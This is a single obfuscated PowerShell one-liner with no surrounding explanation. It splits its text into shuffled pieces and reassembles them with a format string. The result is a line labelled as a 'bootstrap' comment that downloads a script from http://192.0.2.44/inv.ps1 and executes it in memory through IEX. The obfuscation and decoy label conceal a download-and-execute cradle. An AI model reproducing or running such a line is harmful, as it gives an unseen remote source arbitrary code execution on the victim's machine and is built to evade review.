iex ("{2}{3}{1}{0}" -f 'w-Object Net.WebClient).DownloadString(''http://192.0.2.44/inv.ps1'')
','Ne','# bootstrap 5','492 v4
IEX (')